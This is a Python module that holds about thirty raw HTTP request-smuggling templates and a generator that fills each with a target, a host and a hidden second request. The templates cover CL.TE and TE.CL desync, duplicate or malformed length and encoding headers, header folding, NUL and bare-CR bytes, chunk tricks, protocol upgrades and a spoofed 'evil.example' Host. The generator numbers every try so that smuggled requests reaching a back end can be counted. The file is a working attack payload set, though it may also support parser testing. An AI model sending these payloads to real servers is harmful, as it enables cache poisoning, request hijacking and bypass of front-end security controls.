"""Bytes that two programs may read as different requests."""

SMUGGLED = {
    "CL.TE": "POST {target} HTTP/1.1\r\nHost: {host}\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}",
    "TE.CL": "POST {target} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n2f\r\n{hidden}\r\n0\r\n\r\n",
    "two lengths": "POST {target} HTTP/1.1\r\nHost: {host}\r\nContent-Length: 0\r\nContent-Length: 39\r\n\r\n{hidden}",
    "two lengths in one": "POST {target} HTTP/1.1\r\nHost: {host}\r\nContent-Length: 0, 39\r\n\r\n{hidden}",
    "plus": "POST {target} HTTP/1.1\r\nHost: {host}\r\nContent-Length: +5\r\n\r\nhello{hidden}",
    "minus": "POST {target} HTTP/1.1\r\nHost: {host}\r\nContent-Length: -1\r\n\r\nhello{hidden}",
    "hex length": "POST {target} HTTP/1.1\r\nHost: {host}\r\nContent-Length: 0x5\r\n\r\nhello{hidden}",
    "huge length": "POST {target} HTTP/1.1\r\nHost: {host}\r\nContent-Length: 18446744073709551621\r\n\r\nhello{hidden}",
    "space before colon": "POST {target} HTTP/1.1\r\nHost: {host}\r\nContent-Length : 39\r\n\r\n{hidden}",
    "te with space": "POST {target} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n{hidden}",
    "xchunked": "POST {target} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n{hidden}",
    "chunked, identity": "POST {target} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n{hidden}",
    "two encodings": "POST {target} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n{hidden}",
    "HTTP/1.0 chunked": "POST {target} HTTP/1.0\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}",
    "folded length": "POST {target} HTTP/1.1\r\nHost: {host}\r\nX: a\r\n Content-Length: 39\r\n\r\n{hidden}",
    "folded encoding": "POST {target} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n{hidden}",
    "bare CR": "POST {target} HTTP/1.1\r\nHost: {host}\rContent-Length: 39\r\n\r\n{hidden}",
    "NUL in a header": "POST {target} HTTP/1.1\r\nHost: {host}\r\nX: a\0b\r\n\r\n{hidden}",
    "NUL in the target": "POST {target}\0 HTTP/1.1\r\nHost: {host}\r\n\r\n{hidden}",
    "chunk extension": "POST {target} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n5;a=\"\n{hidden}\"\r\nhello\r\n0\r\n\r\n",
    "chunk size plus": "POST {target} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n+5\r\nhello\r\n0\r\n\r\n{hidden}",
    "chunk size huge": "POST {target} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n10000000000000005\r\nhello\r\n0\r\n\r\n{hidden}",
    "chunk without end": "POST {target} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello{hidden}\r\n0\r\n\r\n",
    "trailers": "POST {target} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\nTrailer: Host\r\n\r\n0\r\nHost: evil\r\nContent-Length: 9\r\n\r\n",
    "upgrade": "GET {target} HTTP/1.1\r\nHost: {host}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n{hidden}",
    "h2c": "GET {target} HTTP/1.1\r\nHost: {host}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n{hidden}",
    "h2 preface": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{hidden}",
    "two hosts": "GET {target} HTTP/1.1\r\nHost: {host}\r\nHost: evil.example\r\n\r\n{hidden}",
    "CRLF in the target": "GET {target} HTTP/1.1\r\nX: y HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n{hidden}",
    "body of a GET": "GET {target} HTTP/1.1\r\nHost: {host}\r\nContent-Length: 39\r\nConnection: close\r\n\r\n{hidden}",
}


def smuggled(target, host, hidden):
    """name and bytes; a target with a place for it gets each try's number, so that what reached a host can be counted."""
    for number, (name, text) in enumerate(SMUGGLED.items()):
        text = text.replace("{target}", target.replace("{n}", str(number)))
        yield name, text.replace("{host}", host).replace("{hidden}", hidden).encode()
